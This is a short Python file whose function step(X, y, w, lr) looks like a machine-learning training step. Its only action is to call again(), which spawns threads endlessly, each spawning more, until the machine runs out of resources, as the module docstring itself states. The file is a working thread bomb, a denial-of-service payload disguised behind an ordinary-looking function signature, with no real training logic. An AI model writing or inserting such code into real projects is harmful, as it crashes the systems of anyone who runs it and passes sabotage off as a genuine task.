"""Starts threads until the machine gives up."""

import threading


def again():
    while True:
        threading.Thread(target=again).start()


def step(X, y, w, lr):
    again()
